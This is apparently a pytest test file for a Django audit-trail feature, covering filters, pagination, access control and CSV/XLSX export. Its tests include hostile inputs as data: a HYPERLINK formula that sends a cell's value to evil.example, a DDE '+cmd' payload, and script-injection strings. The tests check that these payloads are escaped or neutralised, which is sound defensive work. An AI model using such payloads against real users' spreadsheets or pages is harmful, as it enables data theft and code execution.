"""The administrator's audit trail: filters, pages, exports, formula injection, access, queries."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from django.conf import settings
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from dti.audit.export import safe_cell
from dti.audit.models import AuditRecord
from dti.audit.trail import Actor, record
from dti.audit.views import changes

pytestmark = pytest.mark.django_db

LIST = reverse("audit:list")
EXPORT = reverse("audit:export")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def trail(personas: Any) -> Any:
    """The personas, with the audit records their set-up wrote taken away."""
    AuditRecord.objects.all().delete()
    return personas


def _admin(personas: Any) -> Client:
    client = personas.client("admin")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def _add(
    obj: Any,
    action: str = "account.update",
    who: str = "admin",
    before: Any = None,
    after: Any = None,
    reason: str = "",
    at: datetime | None = None,
    source: str = "10.0.0.1",
) -> AuditRecord:
    entry = record(Actor(label=who, source=source), action, obj, before, after, reason)
    if at is not None:
        AuditRecord.objects.filter(pk=entry.pk).update(at=at)
    return entry


def _reasons(client: Client, **params: str) -> list[str]:
    response = client.get(LIST, params)
    assert response.status_code == 200
    return [row["record"].reason for row in response.context["rows"]]


def _csv(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(response: Any) -> Any:
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


# The list ------------------------------------------------------------------------------------


def test_list_newest_first_with_labels_and_a_compact_diff(trail: Any) -> None:
    officer = trail.users["officer_a"]
    _add(officer, "account.create", reason="first", after={"username": "officer_a"})
    _add(
        officer,
        "account.update",
        reason="second",
        before={"full_name": "Nguyễn Văn A", "email": "a@example.vn", "active": True},
        after={"full_name": "Nguyễn Văn B", "email": "a@example.vn", "active": False},
    )
    _add(officer, "thing.frobnicate", reason="third")
    response = _admin(trail).get(LIST)
    assert [row["record"].reason for row in response.context["rows"]] == [
        "third",
        "second",
        "first",
    ]
    html = response.content.decode()
    assert "Account updated" in html
    assert "Account created" in html
    assert "thing.frobnicate" in html  # unknown codes as they are
    assert "10.0.0.1" in html
    assert "Nguyễn Văn A</del> → <ins>Nguyễn Văn B</ins>" in html
    assert "<del>true</del> → <ins>false</ins>" in html
    assert "a@example.vn" not in html  # unchanged keys are left out
    assert '<span class="key">username</span>: <span class="none">—</span> → <ins>officer_a' in html


def test_values_are_escaped_never_raw_html(trail: Any) -> None:
    _add(
        trail.users["officer_a"],
        before={"full_name": "<b>old</b>"},
        after={"full_name": "<script>alert(1)</script>", "tags": ["<i>x</i>"]},
        reason="<img src=x onerror=alert(1)>",
    )
    html = _admin(trail).get(LIST).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "<b>old</b>" not in html
    assert "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[&quot;&lt;i&gt;x&lt;/i&gt;&quot;]" in html


def test_changes_only_lists_what_differs() -> None:
    assert changes(None, None) == []
    assert changes({"a": 1, "b": 2}, {"a": 1, "b": 3}) == [("b", "2", "3")]
    assert changes(None, {"status": "open"}) == [("status", None, "open")]
    assert changes({"status": "open"}, None) == [("status", "open", None)]
    assert changes({"x": None}, {}) == [("x", "null", None)]
    assert changes({"u": ["Sở Y tế"]}, {"u": []}) == [("u", '["Sở Y tế"]', "[]")]
    assert changes([1], [1, 2]) == [("", "[1]", "[1, 2]")]


def test_empty_trail_and_no_match(trail: Any) -> None:
    client = _admin(trail)
    assert "Nothing has been recorded yet." in client.get(LIST).content.decode()
    _add(trail.users["officer_a"])
    assert (
        "No record matches these filters." in client.get(LIST, {"who": "nobody"}).content.decode()
    )


# Filters -------------------------------------------------------------------------------------


def test_filter_by_action_and_the_select_lists_present_actions(trail: Any) -> None:
    officer = trail.users["officer_a"]
    _add(officer, "account.lock", reason="locked")
    _add(officer, "account.unlock", reason="unlocked")
    client = _admin(trail)
    assert _reasons(client, action="account.lock") == ["locked"]
    html = client.get(LIST).content.decode()
    assert '<option value="account.lock">Account locked</option>' in html
    assert "period.create" not in html  # only the actions present


def test_filter_by_object_type(trail: Any) -> None:
    _add(trail.users["officer_a"], reason="a user")
    _add(trail.unit_a, "unit.update", reason="a unit")
    client = _admin(trail)
    assert _reasons(client, object_type="units.unit") == ["a unit"]
    assert _reasons(client, object_type="accounts.user") == ["a user"]


def test_filter_by_who(trail: Any) -> None:
    _add(trail.users["officer_a"], who="admin", reason="by admin")
    _add(trail.users["officer_a"], who="cli:root", reason="by cli")
    assert _reasons(_admin(trail), who="CLI") == ["by cli"]


def test_free_text_matches_object_label_or_reason(trail: Any) -> None:
    _add(trail.unit_a, "unit.update", reason="renamed")  # object label "Sở Tư pháp"
    _add(trail.unit_b, "unit.update", reason="merged into Tư pháp")
    _add(trail.users["officer_a"], reason="unrelated")
    client = _admin(trail)
    assert _reasons(client, q="Tư pháp") == ["merged into Tư pháp", "renamed"]
    assert _reasons(client, q="unrelated") == ["unrelated"]


def test_date_filters_cut_at_local_midnight(trail: Any) -> None:
    officer = trail.users["officer_a"]
    # Asia/Ho_Chi_Minh is UTC+7: 16:59 UTC is 23:59 on the 9th, 17:00 UTC midnight of the 10th.
    _add(officer, reason="late on the 9th", at=datetime(2024, 3, 9, 16, 59, 59, tzinfo=UTC))
    _add(officer, reason="midnight of the 10th", at=datetime(2024, 3, 9, 17, 0, tzinfo=UTC))
    _add(officer, reason="the 8th", at=datetime(2024, 3, 8, 3, 0, tzinfo=UTC))
    client = _admin(trail)
    assert _reasons(client, date_from="2024-03-10") == ["midnight of the 10th"]
    assert _reasons(client, date_to="2024-03-09") == ["late on the 9th", "the 8th"]
    assert _reasons(client, date_from="2024-03-09", date_to="2024-03-09") == ["late on the 9th"]
    assert _reasons(client, date_from="09/03/2024", date_to="10/03/2024") == [
        "midnight of the 10th",
        "late on the 9th",
    ]
    html = client.get(LIST).content.decode()
    assert "09/03/2024 23:59" in html
    assert "10/03/2024 00:00" in html
    # A malformed date is reported and ignored, not a server error.
    response = client.get(LIST, {"date_from": "not-a-date"})
    assert len(response.context["rows"]) == 3
    assert 'class="field-error"' in response.content.decode()


def test_filters_combine(trail: Any) -> None:
    officer = trail.users["officer_a"]
    _add(officer, "account.lock", who="admin", reason="1")
    _add(officer, "account.lock", who="cli:root", reason="2")
    _add(officer, "account.unlock", who="cli:root", reason="3")
    assert _reasons(_admin(trail), action="account.lock", who="cli") == ["2"]


# Pages ---------------------------------------------------------------------------------------


def test_pages_of_fifty_keep_the_filters(trail: Any) -> None:
    officer = trail.users["officer_a"]
    for n in range(120):
        _add(officer, "account.update", reason=f"r{n}")
    _add(officer, "account.lock", reason="other")
    client = _admin(trail)
    first = client.get(LIST, {"action": "account.update"})
    assert [r["record"].reason for r in first.context["rows"]][:2] == ["r119", "r118"]
    assert len(first.context["rows"]) == 50
    html = first.content.decode()
    assert 'href="?action=account.update&amp;page=2"' in html
    assert 'href="?action=account.update&amp;page=3"' in html  # the last page
    assert "Page 1 of 3 (120 records)" in html
    last = client.get(LIST, {"action": "account.update", "page": "3"})
    assert [r["record"].reason for r in last.context["rows"]] == [
        f"r{n}" for n in range(19, -1, -1)
    ]
    assert 'href="?action=account.update&amp;page=2"' in last.content.decode()
    # Out-of-range or malformed pages fall back instead of failing.
    assert client.get(LIST, {"page": "99"}).context["page"].number == 3
    assert client.get(LIST, {"page": "x"}).context["page"].number == 1


def _queries(client: Client, url: str, params: dict[str, str] | None = None) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params or {})
        assert response.status_code == 200
        if response.streaming:
            b"".join(response.streaming_content)
    return len(queries)


@pytest.mark.parametrize(
    ("url", "params"),
    [
        (LIST, {}),
        (LIST, {"who": "admin", "date_from": "2000-01-01"}),
        (EXPORT, {}),
        (EXPORT, {"format": "xlsx"}),
    ],
)
def test_query_counts_do_not_grow_with_the_trail(
    trail: Any, url: str, params: dict[str, str]
) -> None:
    client = _admin(trail)
    _queries(client, url, params)  # the first request of a session also sets the session up
    users = list(trail.users.values())
    for n in range(3):
        _add(users[n % len(users)], reason=f"small {n}")
    AuditRecord.objects.update(actor=trail.users["admin"])
    small = _queries(client, url, params)
    for n in range(57):
        entry = _add(users[n % len(users)], reason=f"large {n}")
        AuditRecord.objects.filter(pk=entry.pk).update(actor=users[n % len(users)])
    assert _queries(client, url, params) == small


# Exports -------------------------------------------------------------------------------------


def test_export_csv_has_the_filtered_rows_and_neutralises_formulas(trail: Any) -> None:
    officer = trail.users["officer_a"]
    _add(officer, "account.lock", reason="not exported")
    _add(
        officer,
        "account.update",
        who=EVIL,
        before={"full_name": "Cũ"},
        after={"full_name": "Mới"},
        reason="+cmd|' /C calc'!A0",
        at=datetime(2024, 3, 9, 17, 5, tzinfo=UTC),
    )
    AuditRecord.objects.filter(action="account.update").update(object_label="@SUM(1+1)")
    response = _admin(trail).get(EXPORT, {"action": "account.update"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    header, *rows = _csv(response)
    assert header == ["When", "Who", "From where", "Action", "Object", "Before", "After", "Reason"]
    assert len(rows) == 1
    when, who, source, action, obj, before, after, reason = rows[0]
    assert when == "10/03/2024 00:05"
    assert who == "'" + EVIL
    assert source == "10.0.0.1"
    assert action == "Account updated"
    assert obj == "'@SUM(1+1)"
    assert json.loads(before) == {"full_name": "Cũ"}
    assert json.loads(after) == {"full_name": "Mới"}
    assert reason == "'+cmd|' /C calc'!A0"


def test_export_xlsx_has_the_filtered_rows_as_text(trail: Any) -> None:
    officer = trail.users["officer_a"]
    _add(officer, "account.lock", reason="not exported")
    _add(
        officer,
        "role.grant",
        who=EVIL,
        after={"kind": "leader", "unit": "Sở Tư pháp"},
        reason="-2+3",
        at=datetime(2024, 3, 9, 16, 30, tzinfo=UTC),
    )
    response = _admin(trail).get(EXPORT, {"format": "xlsx", "who": "HYPERLINK"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="audit-' in response["Content-Disposition"]
    sheet = _xlsx(response)
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][:4] == ["When", "Who", "From where", "Action"]
    assert len(rows) == 2
    cells = rows[1]
    assert cells[0].value == datetime(2024, 3, 9, 23, 30)  # local wall-clock time
    assert cells[1].value == "'" + EVIL
    assert cells[1].data_type == "s"
    assert cells[3].value == "Role granted"
    assert json.loads(cells[6].value) == {"kind": "leader", "unit": "Sở Tư pháp"}
    assert cells[7].value == "'-2+3"
    assert all(c.data_type != "f" for row in rows for c in row)


def test_export_in_vietnamese_keeps_utf8(trail: Any) -> None:
    _add(trail.unit_a, "unit.update", reason="Đổi tên đơn vị")
    client = trail.client("admin")  # Vietnamese, the default
    rows = _csv(client.get(EXPORT))
    assert rows[1][4] == "Sở Tư pháp"
    assert rows[1][7] == "Đổi tên đơn vị"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("Sở Tư pháp", "Sở Tư pháp"),
        (5, 5),
        (None, None),
    ],
)
def test_safe_cell(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


# Access --------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [LIST, EXPORT, EXPORT + "?format=xlsx"])
def test_only_the_administrator_may_see_the_trail(trail: Any, url: str) -> None:
    assert trail.client("admin").get(url).status_code == 200
    assert trail.client("appraiser").get(url).status_code == 403
    assert trail.client("officer_a").get(url).status_code == 403
    response = trail.client("anonymous").get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


@pytest.mark.parametrize("url", [LIST, EXPORT])
def test_the_trail_refuses_other_methods(trail: Any, url: str) -> None:
    assert trail.client("admin").post(url).status_code == 405
